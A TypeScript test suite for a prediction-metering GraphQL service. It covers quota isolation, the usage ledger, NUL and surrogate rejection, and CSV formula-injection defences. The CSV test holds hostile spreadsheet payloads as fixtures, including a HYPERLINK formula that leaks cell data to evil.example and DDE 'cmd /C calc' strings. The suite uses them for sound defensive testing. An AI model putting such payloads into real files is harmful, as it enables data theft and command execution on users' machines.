// Issue 9 rows 4 and 8 and the ledger property: one caller's bad input never fails another caller's usage
// record, quota counters and usage records never disagree, and CSV exports cannot carry spreadsheet formulas.
import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import { startTestServer, type GraphQLResponse, type TestServer } from '../support/server.js';
import { expectError, logIn, signUp, tableCounts, type SignedUpUser } from '../support/fixtures.js';
import { PREDICT, publishedMlp, randomRows } from '../support/models.js';
import { accept, createPlan } from '../support/licensing.js';
import { assertLedgerHolds } from '../support/ledger.js';

const ADMIN = { email: 'admin@ledger.test', password: 'ledger admin phrase' };
const LEDGER = `query { verifyUsageLedger { holds discrepancies { contractId predictionsUsed recordedUnits periodStart } } }`;
const CONTRACTS = 'query { myContracts { id predictionsUsed } }';

/** Splits CSV text into rows of cells (RFC 4180 quoting). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else {
      cell += c;
    }
  }
  return rows;
}

describe('metering integrity: bad input, failed group writes, the usage ledger', () => {
  let server: TestServer;
  let owner: SignedUpUser;
  let slug: string;
  before(async () => {
    server = await startTestServer({ ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password });
    owner = await signUp(server, { role: 'OWNER' });
    slug = (await publishedMlp(server, { token: owner.token })).model.slug;
  });
  after(() => server.close());
  afterEach(() => assertLedgerHolds(server.sql));

  async function payingConsumer() {
    const plan = await createPlan(server, { token: owner.token }, slug, { predictionQuota: 100_000 });
    const consumer = await signUp(server);
    const contract = await accept(server, { token: consumer.token }, plan.id);
    return { consumer, contractId: contract.id };
  }
  const predict = (user: { token: string }, inputs: number[][], extra: Record<string, unknown> = {}) =>
    server.gql(PREDICT, { input: { model: slug, inputs, ...extra } }, { token: user.token });

  it('row 4: a caller looping requestId "x\\u0000" without a contract fails no other call and costs no quota', async () => {
    const { consumer, contractId } = await payingConsumer();
    const attacker = await signUp(server);
    let attacking = true;
    const refusals: { status: number; code: unknown; field: unknown }[] = [];
    const attack = (async () => {
      while (attacking) {
        const answers = await Promise.all(
          Array.from({ length: 8 }, () => predict(attacker, randomRows(1, 784, 9), { requestId: 'x\u0000' })),
        );
        for (const res of answers) {
          const extensions = res.errors?.[0]?.extensions;
          refusals.push({ status: res.status, code: extensions?.code, field: extensions?.field });
        }
      }
    })();
    const good: Awaited<ReturnType<typeof predict>>[] = [];
    for (let wave = 0; wave < 6; wave++) {
      good.push(...(await Promise.all(Array.from({ length: 20 }, (_, i) => predict(consumer, randomRows(1, 784, i))))));
    }
    attacking = false;
    await attack;
    assert.deepEqual(
      good.flatMap((r) => r.errors ?? []),
      [],
    );
    assert.ok(refusals.length > 0);
    for (const refusal of refusals) {
      assert.deepEqual(refusal, { status: 400, code: 'BAD_USER_INPUT', field: 'variables.input.requestId' });
    }
    const used = (await server.gql(CONTRACTS, {}, { token: consumer.token })).data!.myContracts[0];
    assert.equal(used.predictionsUsed, 120);
    const recorded = await server.sql.query(
      `SELECT count(*)::int AS calls, sum(billable_units)::int AS units FROM usage_records WHERE contract_id = $1`,
      [contractId],
    );
    assert.deepEqual(recorded.rows[0], { calls: 120, units: 120 });
    // Refused at the front door: the attacker's calls reached nothing, not even a usage record.
    const attackerRecords = await server.sql.query(
      'SELECT count(*)::int AS n FROM usage_records WHERE consumer_id = $1',
      [attacker.id],
    );
    assert.equal(attackerRecords.rows[0].n, 0);
    const admin = await logIn(server, ADMIN.email, ADMIN.password);
    assert.deepEqual((await server.gql(LEDGER, {}, { token: admin.token })).data!.verifyUsageLedger, {
      holds: true,
      discrepancies: [],
    });
  });

  it('a group write that PostgreSQL refuses for one record fails only that call, and gives its quota back', async () => {
    const { consumer, contractId } = await payingConsumer();
    // A record value PostgreSQL refuses that no validation could know about: a constraint of this database.
    await server.sql.query(
      `ALTER TABLE usage_records ADD CONSTRAINT test_refuses_poison CHECK (request_id NOT LIKE 'poison-%')`,
    );
    try {
      let served = 0;
      for (let round = 0; round < 3; round++) {
        const answers = await Promise.all(
          Array.from({ length: 21 }, (_, i) =>
            predict(consumer, randomRows(2, 784, i), { requestId: i === 10 ? `poison-${round}` : `r${round}-${i}` }),
          ),
        );
        answers.forEach((res, i) => {
          if (i === 10) expectError(res, 'INTERNAL_SERVER_ERROR');
          else assert.equal(res.errors, undefined, JSON.stringify(res.errors));
        });
        served += 20;
      }
      const recorded = await server.sql.query(
        `SELECT count(*)::int AS calls, sum(billable_units)::int AS units, count(*) FILTER (WHERE request_id LIKE 'poison-%')::int AS poison
         FROM usage_records WHERE contract_id = $1`,
        [contractId],
      );
      assert.deepEqual(recorded.rows[0], { calls: served, units: 2 * served, poison: 0 });
      const used = (await server.gql(CONTRACTS, {}, { token: consumer.token })).data!.myContracts[0];
      assert.equal(used.predictionsUsed, 2 * served);
    } finally {
      await server.sql.query('ALTER TABLE usage_records DROP CONSTRAINT test_refuses_poison');
    }
  });

  it('verifyUsageLedger reports a contract whose counter differs from its records (admins only)', async () => {
    const { consumer, contractId } = await payingConsumer();
    assert.equal((await predict(consumer, randomRows(3, 784, 1))).errors, undefined);
    const admin = await logIn(server, ADMIN.email, ADMIN.password);
    await server.sql.query('UPDATE contracts SET predictions_used = predictions_used + 4 WHERE id = $1', [contractId]);
    try {
      const report = (await server.gql(LEDGER, {}, { token: admin.token })).data!.verifyUsageLedger;
      assert.equal(report.holds, false);
      assert.equal(report.discrepancies.length, 1);
      const [discrepancy] = report.discrepancies;
      assert.equal(discrepancy.contractId, contractId);
      assert.equal(discrepancy.predictionsUsed, 7);
      assert.equal(discrepancy.recordedUnits, 3);
      assert.ok(!Number.isNaN(Date.parse(discrepancy.periodStart)));
    } finally {
      await server.sql.query('UPDATE contracts SET predictions_used = predictions_used - 4 WHERE id = $1', [
        contractId,
      ]);
    }
    expectError(await server.gql(LEDGER, {}, { token: consumer.token }), 'FORBIDDEN');
    expectError(await server.gql(LEDGER, {}, { token: owner.token }), 'FORBIDDEN');
  });

  it('refuses NUL and lone surrogates anywhere in a GraphQL request at the front door, changing nothing', async () => {
    const MODEL = 'query M($slug: String!) { model(slug: $slug) { id } }';
    const refused = async (res: GraphQLResponse, field: string) => {
      assert.equal(res.status, 400);
      assert.equal(expectError(res, 'BAD_USER_INPUT').extensions!.field, field);
    };
    await refused(await server.gql('{ model(slug: "a\\u0000") { id } }'), 'query');
    await refused(await server.gql('{ model(slug: "a\\u{0}") { id } }'), 'query');
    await refused(await server.gql(MODEL, { slug: 'a\u0000' }), 'variables.slug');
    await refused(await server.gql(MODEL, { slug: 'a\ud800' }), 'variables.slug');
    await refused(await server.gql(MODEL, { slug: 'a\udfff b' }), 'variables.slug');
    const before = await tableCounts(server);
    await refused(
      await server.gql('mutation S($input: SignUpInput!) { signUp(input: $input) { accessToken } }', {
        input: { email: 'nul@example.com', password: 'a fine long password', displayName: 'N\u0000', role: 'CONSUMER' },
      }),
      'variables.input.displayName',
    );
    assert.deepEqual(await tableCounts(server), before);
    // GET requests (Apollo answers queries over GET) are checked as well.
    const params = new URLSearchParams({ query: MODEL, variables: JSON.stringify({ slug: 'a\u0000' }) });
    const viaGet = await fetch(`${server.url}?${params}`, { headers: { 'apollo-require-preflight': 'true' } });
    assert.equal(viaGet.status, 400);
    const body = (await viaGet.json()) as { errors: { extensions: { code: string; field: string } }[] };
    assert.deepEqual(body.errors[0]!.extensions, { code: 'BAD_USER_INPUT', field: 'variables.slug' });
    // Well-formed text, emoji (surrogate pairs) included, still passes.
    const fine = await server.gql(MODEL, { slug: 'no-such-model-\ud83d\ude00' });
    assert.equal(fine.errors, undefined);
    assert.equal(fine.data!.model, null);
  });

  it('checks requestId: control characters and lengths are BAD_USER_INPUT on input.requestId', async () => {
    const { consumer } = await payingConsumer();
    for (const requestId of ['x\u0001', 'tab\there', '', 'x'.repeat(256)]) {
      const error = expectError(await predict(consumer, randomRows(1, 784, 1), { requestId }), 'BAD_USER_INPUT');
      assert.equal(error.extensions!.field, 'input.requestId');
    }
    const used = (await server.gql(CONTRACTS, {}, { token: consumer.token })).data!.myContracts[0];
    assert.equal(used.predictionsUsed, 0);
    const records = await server.sql.query('SELECT request_id FROM usage_records WHERE consumer_id = $1', [
      consumer.id,
    ]);
    assert.deepEqual(
      records.rows.map((r) => r.request_id),
      [null, null, null, null],
    );
  });

  it('row 8: CSV exports neutralise cells a spreadsheet would run as formulas, for the owner and the consumer', async () => {
    const { consumer, contractId } = await payingConsumer();
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      // Spreadsheets in some locales split on `;`, where `=` would then start a cell.
      "ord-2;=cmd|' /C calc'!A0",
      'plain-id',
    ];
    for (const [i, requestId] of hostile.entries()) {
      assert.equal((await predict(consumer, randomRows(1, 784, i), { requestId })).errors, undefined);
    }
    for (const user of [owner, consumer]) {
      const response = await fetch(`${server.origin}/v1/usage.csv?contract=${contractId}`, {
        headers: { authorization: `Bearer ${user.token}` },
      });
      assert.equal(response.status, 200);
      const text = await response.text();
      assert.ok(text.includes(`"ord-2;=cmd|' /C calc'!A0"`), 'a cell holding ; is quoted whole');
      const [header, ...rows] = parseCsv(text);
      const column = header!.indexOf('request_id');
      assert.deepEqual(
        rows.map((row) => row[column]),
        [
          '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
          "'@SUM(1+1)*cmd|' /C calc'!A0",
          "'+1+1",
          "'-2+3",
          "ord-2;=cmd|' /C calc'!A0",
          'plain-id',
        ],
      );
      for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
    }
  });
});
